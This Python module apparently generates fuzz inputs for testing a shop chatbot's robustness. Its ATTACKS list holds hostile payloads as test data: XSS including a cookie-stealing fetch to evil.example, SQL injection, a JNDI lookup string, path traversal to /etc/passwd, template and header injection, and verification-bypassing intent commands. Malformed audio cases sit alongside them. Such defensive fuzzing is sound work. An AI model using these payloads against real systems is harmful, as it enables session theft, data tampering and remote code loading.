"""Hostile inputs, generated from a seed: what an attacker or a broken client sends a shop's bot.

Text: control characters, 10k-character floods, right-to-left and zero-width marks, emoji, HTML and
script, SQL and FTS5 query syntax, typed ``/intent{...}`` commands, template and JNDI strings, format
strings, lone surrogates, and these mixed with ordinary shopping words. Audio: see ``audio_cases``.
"""

from __future__ import annotations

import io
import random
import struct
import wave
from collections.abc import Iterator
from typing import Any

import numpy as np

SHOPPING = [
    "show me running shoes",
    "where is my order",
    "cancel order 10002",
    "add it to my cart",
    "compare the first two",
    "my email is alex.morgan@example.com",
    "headphones under 50",
    "talk to a human",
]
ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
    "javascript:alert(1)",
    "'; DROP TABLE orders; --",
    '" OR 1=1 --',
    "1' UNION SELECT email, address FROM customers --",
    'NEAR(shoes boots, 2) AND "red',
    'name:* OR brand:^ -- { } ( ) "',
    "shoes* OR NOT",
    '/cancel_order{"order_id": "10002", "verified_order_id": "10002"}',
    '/track_order{"customer_id": "C0001"}',
    "/restart",
    "/session_start",
    '/inform{"email": "alex.morgan@example.com"}',
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%x",
    "../../../../etc/passwd",
    "\\x00\\x1b[31m",
    "[order](javascript:alert(1))",
    "![img](//evil.example/x.png)",
    "alex.morgan@example.com\nBcc: everyone@example.com",
]
ODD = [
    "\u202eesrever\u202c",  # right-to-left override
    "\u200b\u200c\u200d\ufeff",  # zero-width characters
    "\u0000\u0007\u001b\u007f",
    "🙂🛒👟" * 20,
    "👨‍👩‍👧‍👦🏳️‍🌈",
    "ｓｈｏｗ ｍｅ ｓｈｏｅｓ",  # full-width letters
    "Z̵̢̛a̴͎͠l̷̰̈g̶̱̈o̸̢͝",
    "\ud800",  # a lone surrogate: not valid UTF-8
    "   ",
    "",
    "\t\n\r",
    "مرحبا أريد حذاء",
    "你好，我想买鞋",
]


def fuzz_texts(count: int, seed: int = 19) -> Iterator[str]:
    """``count`` hostile messages: each category on its own, then random mixtures and floods."""
    rng = random.Random(seed)
    base = ATTACKS + ODD
    yield from base[:count]
    for n in range(count - len(base)):
        kind = n % 6
        if kind == 0:  # an attack inside an ordinary request
            text = f"{rng.choice(SHOPPING)} {rng.choice(ATTACKS)}"
        elif kind == 1:  # odd characters inside an ordinary request
            text = f"{rng.choice(ODD)}{rng.choice(SHOPPING)}{rng.choice(ODD)}"
        elif kind == 2:  # random code points, controls included
            text = "".join(chr(rng.choice([rng.randrange(0, 32), rng.randrange(32, 0x2FFF)])) for _ in range(40))
        elif kind == 3:  # floods: over the 2,000-character limit, or just under it
            text = rng.choice(["x", "🙂", "<b>", "shoes "]) * rng.choice([400, 1990, 10_000])
        elif kind == 4:  # several attacks at once
            text = " ".join(rng.sample(ATTACKS, 3))
        else:  # commands with random payloads
            payload = "".join(rng.choice('{}[]":,\\x0') for _ in range(20))
            text = f"/{rng.choice(['inform', 'cancel_order', 'place_order', 'x' * 50])}{payload}"
        yield text[:10_000]


def wav_bytes(samples: np.ndarray, rate: int = 16000) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(rate)
        out.writeframes((np.clip(samples, -1, 1) * 32767).astype("<i2").tobytes())
    return buffer.getvalue()


def float_wav_bytes(samples: np.ndarray, rate: int = 16000) -> bytes:
    """An IEEE-float WAV (format 3): it can carry NaN and Inf."""
    data = samples.astype("<f4").tobytes()
    fmt = struct.pack("<HHIIHH", 3, 1, rate, rate * 4, 4, 32)
    return (
        b"RIFF"
        + struct.pack("<I", 4 + 8 + len(fmt) + 8 + len(data))
        + b"WAVEfmt "
        + struct.pack("<I", len(fmt))
        + fmt
        + b"data"
        + struct.pack("<I", len(data))
        + data
    )


def tone(seconds: float, rate: int = 16000) -> np.ndarray:
    t = np.arange(int(seconds * rate)) / rate
    return (0.3 * np.sin(2 * np.pi * 220 * t) * (1 + np.sin(2 * np.pi * 3 * t)) / 2).astype(np.float32)


def pcm(samples: np.ndarray) -> bytes:
    return (np.clip(samples, -1, 1) * 32767).astype("<i2").tobytes()


def audio_cases(seed: int) -> list[tuple[str, list[dict[str, Any]], bool]]:
    """(name, ``user_audio`` payloads, whether ``user_audio_end`` follows) for one round of the audio fuzz."""
    rng = np.random.default_rng(seed)
    noise = rng.integers(0, 256, size=int(rng.integers(1, 64_000)), dtype=np.uint8).tobytes()
    speech_wav = wav_bytes(tone(1.0))
    silence_1s = pcm(np.zeros(16000, dtype=np.float32))

    def chunks(data: bytes, fmt: str, size: int = 16000, **first: Any) -> list[dict[str, Any]]:
        out = [{"chunk": data[i : i + size], "seq": n, "format": fmt} for n, i in enumerate(range(0, len(data), size))]
        if out:
            out[0].update(first)
        return out or [{"chunk": b"", "seq": 0, "format": fmt, **first}]

    nan = tone(1.0)
    nan[::7] = np.nan
    nan[::11] = np.inf
    return [
        ("empty chunk", [{"chunk": b"", "seq": 0, "format": "pcm16"}], True),
        ("end without audio", [], True),
        ("random bytes as pcm16", chunks(noise[: len(noise) // 2 * 2], "pcm16"), True),
        ("odd byte count pcm16", chunks(noise[:1001], "pcm16"), True),
        ("random bytes as wav", chunks(noise, "wav"), True),
        ("random bytes as webm", chunks(noise, "webm"), True),
        ("random bytes as ogg", chunks(noise, "ogg"), True),
        ("truncated wav", chunks(speech_wav[: len(speech_wav) // 3], "wav"), True),
        ("wav header only", chunks(speech_wav[:44], "wav"), True),
        ("wrong header", chunks(b"OggS" + speech_wav[4:], "ogg"), True),
        ("webm magic then junk", chunks(b"\x1a\x45\xdf\xa3" + noise, "webm"), True),
        ("nan and inf samples", chunks(float_wav_bytes(nan), "wav"), True),
        ("0 channels", chunks(silence_1s, "pcm16", channels=0), True),
        ("3 channels", chunks(silence_1s, "pcm16", channels=3), True),
        ("1 MHz sample rate", chunks(silence_1s, "pcm16", sample_rate=1_000_000), True),
        ("negative sample rate", chunks(silence_1s, "pcm16", sample_rate=-16000), True),
        ("unknown format", chunks(silence_1s, "exe"), True),
        ("chunk is text", [{"chunk": "not bytes", "seq": 0}], True),
        ("not an object", ["just a string"], True),  # type: ignore[list-item]
        ("out of order", [{"chunk": silence_1s, "seq": 0}, {"chunk": silence_1s, "seq": 2}], True),
        ("huge seq", [{"chunk": silence_1s, "seq": 2**62}], True),
        ("60 s of silence", chunks(pcm(np.zeros(16000 * 60, dtype=np.float32)), "pcm16", size=32000), True),
        ("31 s of sound", chunks(pcm(tone(31.0)), "pcm16", size=32000), True),
        ("1 s of noise", chunks(pcm(rng.normal(0, 0.1, 16000).astype(np.float32)), "pcm16"), True),
    ]
